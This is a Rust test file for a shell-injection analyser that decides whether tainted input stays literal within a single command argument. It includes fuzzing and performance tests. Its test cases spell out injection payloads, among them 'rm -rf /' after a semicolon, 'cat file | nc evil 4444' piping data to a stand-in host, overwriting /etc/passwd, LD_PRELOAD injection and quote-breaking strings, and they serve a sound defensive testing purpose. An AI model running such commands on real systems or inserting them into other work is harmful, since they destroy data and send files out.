//! Shell sink analyser: tainted text must stay literal inside one argument.

use std::ops::Range;
use std::time::{Duration, Instant};

use moat_iast::shell::injected;

mod common;

use common::{XorShift, random_ranges, random_text, span};

fn injected_at(command: &str, tainted: Range<usize>) -> bool {
    injected(command, &[tainted])
}

fn assert_injected(command: &str, tainted: &str) {
    common::assert_injected(injected, command, tainted);
}

fn assert_safe(command: &str, tainted: &str) {
    common::assert_safe(injected, command, tainted);
}

#[test]
fn plain_file_name_argument_is_safe() {
    assert_safe("ls -l /tmp/report.txt", "report.txt");
    assert_safe("convert in.png -resize 50% out.png", "50%");
    assert_safe("echo café", "café");
}

#[test]
fn text_inside_single_quotes_is_safe() {
    assert_safe("grep 'a b' file.txt", "a b");
    assert_safe("echo '$(id); `id` \"x\" \\ *'", "$(id); `id` \"x\" \\ *");
}

#[test]
fn plain_text_inside_double_quotes_is_safe() {
    assert_safe("echo \"hello world; * ~ 'x'\"", "hello world; * ~ 'x'");
}

#[test]
fn leading_dash_argument_is_left_to_the_option_check() {
    assert_safe("ls -la", "-la");
}

#[test]
fn redirection_target_is_an_argument() {
    assert_safe("sort < input.txt > out.txt", "input.txt");
}

#[test]
fn byte_escaped_by_untainted_backslash_is_safe() {
    assert_safe("echo \\;", ";");
}

#[test]
fn assignment_value_is_safe_but_its_name_is_not() {
    assert_safe("LANG=en_US make", "en_US");
    assert_injected("LD_PRELOAD=/tmp/x.so make", "LD_PRELOAD");
}

#[test]
fn command_separator_is_injected() {
    assert_injected("ping -c 1 127.0.0.1; rm -rf /", "127.0.0.1; rm -rf /");
}

#[test]
fn command_substitution_is_injected() {
    assert_injected("echo $(id)", "$(id)");
    assert_injected("echo `id`", "`id`");
}

#[test]
fn and_list_is_injected() {
    assert_injected("test -f a && b", "a && b");
}

#[test]
fn pipe_is_injected() {
    assert_injected("cat file | nc evil 4444", "file | nc evil 4444");
}

#[test]
fn redirection_is_injected() {
    assert_injected("echo x > /etc/passwd", "x > /etc/passwd");
}

#[test]
fn closing_a_single_quote_is_injected() {
    assert_injected("echo 'x'; id; echo ''", "x'; id; echo '");
}

#[test]
fn newline_is_injected() {
    assert_injected("ping host\nid", "host\nid");
}

#[test]
fn glob_is_injected() {
    assert_injected("rm /tmp/*", "*");
    assert_injected("ls /tmp/a?", "a?");
    assert_injected("ls /tmp/[ab]", "[ab]");
}

#[test]
fn program_name_is_injected() {
    assert_injected("whoami", "whoami");
    assert_injected("/usr/bin/id -u", "id");
    assert_injected("true && id", "id");
    assert_injected("if true; then id; fi", "id");
}

#[test]
fn program_run_by_a_wrapper_is_injected() {
    assert_injected("sudo -n id", "id");
    assert_injected("xargs rm", "rm");
    assert_safe("sudo -n ls report.txt", "report.txt");
}

#[test]
fn text_parsed_again_by_a_shell_is_injected() {
    assert_injected("sh -c \"ls report.txt; id\"", "report.txt; id");
    assert_injected("eval echo hello", "hello");
    assert_injected("bash /tmp/script.sh", "/tmp/script.sh");
    assert_safe("sh -c 'ls' ; echo report.txt", "report.txt");
}

#[test]
fn variable_expansion_is_injected() {
    assert_injected("echo $HOME", "$HOME");
    assert_injected("echo ${HOME}", "${HOME}");
    assert_injected("echo ~root", "~root");
}

#[test]
fn expansion_inside_double_quotes_is_injected() {
    assert_injected("echo \"a $(id) b\"", "a $(id) b");
    assert_injected("echo \"$USER\"", "$USER");
    assert_injected("echo \"a\\\"b\"", "a\\\"b");
}

#[test]
fn space_splitting_an_argument_is_injected() {
    assert_injected("rm a b", "a b");
}

#[test]
fn text_inside_an_untainted_expansion_is_injected() {
    assert_injected("echo $(cat notes.txt)", "notes.txt");
    assert_injected("echo \"${x:-'}'} value\"", "x:-");
}

#[test]
fn text_after_an_untainted_expansion_is_still_judged() {
    assert_safe("echo \"$(printf ')')\" report.txt", "report.txt");
    assert_safe("echo ${x:-'}'} report.txt", "report.txt");
}

#[test]
fn unterminated_quote_is_injected() {
    assert_injected("echo 'abc", "'abc");
    assert_injected("echo 'abcd", "cd");
    assert_injected("echo \"abcd", "cd");
}

#[test]
fn comment_is_injected() {
    assert_injected("echo a #b", "#b");
}

#[test]
fn tainted_backslash_is_injected() {
    assert_injected("echo a\\ b", "a\\");
}

#[test]
fn empty_and_reversed_ranges_are_ignored() {
    let command = "echo x; id";
    assert!(!injected(command, &[]));
    assert!(!injected_at(command, 3..3));
    #[expect(
        clippy::reversed_empty_ranges,
        reason = "the analyser must ignore these"
    )]
    let reversed = 9..2;
    assert!(!injected_at(command, reversed));
}

#[test]
fn out_of_bounds_ranges_are_clamped() {
    let command = "ls x";
    assert!(!injected_at(command, 3..100));
    assert!(!injected_at(command, 50..60));
    assert!(injected_at(command, 0..100));
}

#[test]
fn ranges_inside_a_multibyte_character_do_not_panic() {
    let command = "echo 'é€' ü";
    let quoted = span(command, "é€").start;
    assert!(!injected_at(command, quoted + 1..quoted + 4));
    let bare = span(command, "ü").start;
    assert!(!injected_at(command, bare + 1..bare + 2));
}

#[test]
fn empty_command_is_never_injected() {
    assert!(!injected_at("", 0..10));
}

#[test]
fn deep_nesting_does_not_overflow_the_stack() {
    let command = format!("echo {}", "$(\"`${'".repeat(200_000));
    assert!(injected_at(&command, 5..command.len()));
    let command = format!("echo {}", "$(".repeat(300_000));
    assert!(injected_at(&command, command.len() - 1..command.len()));
}

fn random_command(rng: &mut XorShift, len: usize) -> String {
    const PIECES: &[&str] = &[
        "'", "\"", "`", "$", "$(", "${", "$'", ")", "}", "(", "\\", "#", " ", "\n", "\t", ";", "&",
        "&&", "|", "<", ">", ">>", "<<<", "*", "?", "[", "~", "a", "ls", "-x", "1", "=", "é", "€",
        "if", "then",
    ];
    random_text(rng, PIECES, len)
}

// Any quadratic step would take minutes on a megabyte; the bound is loose for slow CI.
#[test]
fn megabyte_of_random_input_is_fast_and_never_panics() {
    let mut rng = XorShift(0x9E37_79B9_7F4A_7C15);
    let command = random_command(&mut rng, 1 << 20);
    let ranges = random_ranges(&mut rng, command.len(), 100_000);
    let clock = Instant::now();
    let _ = injected(&command, &ranges);
    let quoted = format!("echo '{}'", "a".repeat(1 << 20));
    assert!(!injected_at(&quoted, 6..quoted.len() - 1));
    assert!(clock.elapsed() < Duration::from_secs(20));
}

#[test]
fn small_random_inputs_never_panic() {
    let mut rng = XorShift(42);
    for _ in 0..2_000 {
        let size = rng.next() % 64;
        let command = random_command(&mut rng, size);
        let start = rng.next() % (command.len() + 2);
        let _ = injected(&command, &[start..start + rng.next() % 8, 0..command.len()]);
    }
}
